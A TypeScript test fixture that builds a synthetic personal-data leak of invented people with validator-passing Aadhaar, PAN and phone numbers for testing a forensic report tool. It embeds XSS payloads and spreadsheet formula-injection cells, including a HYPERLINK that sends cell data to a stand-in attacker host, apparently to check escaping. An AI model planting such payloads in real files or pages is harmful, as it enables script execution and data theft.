// A synthetic leak for report tests: invented people with identifiers that pass validation (Verhoeff
// Aadhaar, mobile numbers, PAN, email), plus cells written to attack an HTML page or a spreadsheet.
import fs from 'node:fs';
import path from 'node:path';
import { verhoeffCheckDigit } from '../../../shared/pii';
import { Workbench } from '../../../electron/node/core/workbench';

const aadhaar = (first11: string): string => first11 + String(verhoeffCheckDigit(first11));

export const PEOPLE = [
  { name: 'Zarina Quasar', aadhaar: aadhaar('23456789012'), mobile: '9876543210', pan: 'ABCPQ1234F', email: 'zarina.quasar@example.com' },
  { name: 'Yara Quill', aadhaar: aadhaar('49911866524'), mobile: '8123456789', pan: 'BCDPY5678K', email: 'yara.quill@example.org' },
  { name: 'Xavier Obelix', aadhaar: aadhaar('37281946503'), mobile: '7012345678', pan: 'CDEPX9012L', email: 'xavier.obelix@example.net' },
  { name: 'Wanda Nimbus', aadhaar: aadhaar('52839174620'), mobile: '6398765432', pan: 'DEFPW3456M', email: 'wanda.nimbus@example.in' },
];

export const HOSTILE = {
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(2)>',
  js: 'javascript:alert(3)',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+SUM(1,2)',
  at: '@cmd',
  minus: '-2+3',
};

/** Every raw identifier of the fixture, in the spellings a leak would carry them, for "found nowhere" scans. */
export function rawIdentifiers(): string[] {
  return PEOPLE.flatMap((p) => [
    p.name,
    p.aadhaar,
    `${p.aadhaar.slice(0, 4)} ${p.aadhaar.slice(4, 8)} ${p.aadhaar.slice(8)}`,
    p.mobile,
    p.pan,
    p.email,
  ]);
}

const csvQuote = (v: string): string => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);

export function peopleCsv(): string {
  const hostile = Object.values(HOSTILE);
  const rows = PEOPLE.map((p, i) =>
    [p.name, `${p.aadhaar.slice(0, 4)} ${p.aadhaar.slice(4, 8)} ${p.aadhaar.slice(8)}`, p.mobile, p.pan, p.email, `${hostile[i % hostile.length]} call +91 ${p.mobile}`, hostile[(i + 3) % hostile.length]!]
      .map(csvQuote)
      .join(','),
  );
  return ['name,aadhaar,mobile,pan,email,remarks,comment', ...rows].join('\n') + '\n';
}

export function messagesCsv(): string {
  const rows = PEOPLE.map((p, i) => [`2026-11-1${i}`, `bot reply: Aadhaar ${p.aadhaar} mobile ${p.mobile}`].map(csvQuote).join(','));
  return ['date,message', ...rows].join('\n') + '\n';
}

export interface FixtureCase {
  wb: Workbench;
  caseId: string;
  files: string[];
}

export const FIXED_NOW = new Date('2026-11-27T08:40:00.000Z');

/** A vault with one case and the two samples imported, on a fixed clock. */
export async function fixtureCase(root: string, now = FIXED_NOW): Promise<FixtureCase> {
  const clock = { t: now.getTime() - 3600_000 };
  const wb = new Workbench({
    vaultDir: path.join(root, 'vault'),
    kdf: { memoryKiB: 8192, iterations: 1 },
    autoLockMinutes: 0,
    now: () => new Date((clock.t += 1000)),
  });
  await wb.create('pass', { name: 'Asha Verma', designation: 'Scientist D', organisation: 'National Forensic Laboratory' });
  const { id: caseId } = await wb.handlers()['case.create']({ title: `CoWIN bot leak ${HOSTILE.script}`, ref: 'DPB/2026/0042' });
  fs.mkdirSync(path.join(root, 'in'), { recursive: true });
  const files = [
    ['people.csv', peopleCsv()],
    ['messages.csv', messagesCsv()],
  ].map(([name, text]) => {
    const p = path.join(root, 'in', name!);
    fs.writeFileSync(p, text!);
    return p;
  });
  await wb.importFiles(caseId, files, { reason: 'samples from the complainant' });
  return { wb, caseId, files };
}
